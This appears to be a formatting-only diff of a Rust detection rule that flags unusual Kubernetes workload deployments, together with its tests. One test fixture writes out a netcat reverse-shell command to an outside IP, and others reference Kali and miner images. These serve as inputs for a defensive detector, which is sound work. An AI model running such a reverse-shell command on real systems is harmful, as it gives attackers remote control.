@@ -73,7 +73,11 @@ impl Rule for WorkloadDeployed {
             .iter()
             .filter_map(suspicious_command)
             .collect();
-        let images: Vec<&str> = workload.containers.iter().map(|c| c.image.as_str()).collect();
+        let images: Vec<&str> = workload
+            .containers
+            .iter()
+            .map(|c| c.image.as_str())
+            .collect();
         let mut finding = Finding::new(format!(
             "{} deployed {} {} in namespace {} of cluster {} with {}, which is unusual for this user \
              and cluster ({}).",
@@ -87,7 +91,9 @@ impl Rule for WorkloadDeployed {
         ))
         .with_anomaly(verdict);
         if !tools.is_empty() {
-            finding = finding.with_severity(MEDIUM).with_info("pentestImages", tools.join(", "));
+            finding = finding
+                .with_severity(MEDIUM)
+                .with_info("pentestImages", tools.join(", "));
         }
         if !commands.is_empty() {
             finding = finding
@@ -119,7 +125,13 @@ mod tests {
     }
 
     fn rollout(user: &str, ip: &str, agent: &str) -> Call {
-        deployment(user, ip, agent, "registry.example.com/web/frontend:2.4.1", &[])
+        deployment(
+            user,
+            ip,
+            agent,
+            "registry.example.com/web/frontend:2.4.1",
+            &[],
+        )
     }
 
     fn miner(user: &str, ip: &str, agent: &str) -> Call {
@@ -136,19 +148,42 @@ mod tests {
 
     #[test]
     fn severity_is_low_but_medium_for_pentest_images_and_reverse_shells() {
-        assert_eq!(attacked("docker.io/someone/tools:latest", &[])[0].1.severity, None);
+        assert_eq!(
+            attacked("docker.io/someone/tools:latest", &[])[0]
+                .1
+                .severity,
+            None
+        );
         let kali = attacked("kalilinux/kali-rolling:latest", &[]);
         assert_eq!(kali[0].1.severity, Some(MEDIUM));
-        let shell = attacked("alpine:3.19", &["/bin/sh", "-c", "nc 45.83.64.12 4444 -e /bin/sh"]);
+        let shell = attacked(
+            "alpine:3.19",
+            &["/bin/sh", "-c", "nc 45.83.64.12 4444 -e /bin/sh"],
+        );
         assert_eq!(shell[0].1.severity, Some(MEDIUM));
-        assert!(shell[0].1.parameters.as_deref().unwrap().contains("-e /bin/sh"));
+        assert!(
+            shell[0]
+                .1
+                .parameters
+                .as_deref()
+                .unwrap()
+                .contains("-e /bin/sh")
+        );
     }
 
     #[test]
     fn image_updates_by_the_usual_deployer_are_not_flagged() {
         let mut calls = habits(96, rollout);
-        calls.push(deployment("alice", peregrine_rules_sdk::testing::OFFICE_IP,
-            peregrine_rules_sdk::testing::KUBECTL, "registry.example.com/web/frontend:2.5.0", &[]).at(100 * 3600));
+        calls.push(
+            deployment(
+                "alice",
+                peregrine_rules_sdk::testing::OFFICE_IP,
+                peregrine_rules_sdk::testing::KUBECTL,
+                "registry.example.com/web/frontend:2.5.0",
+                &[],
+            )
+            .at(100 * 3600),
+        );
         assert_eq!(run_calls::<WorkloadDeployed>(&calls), vec![]);
     }
 }
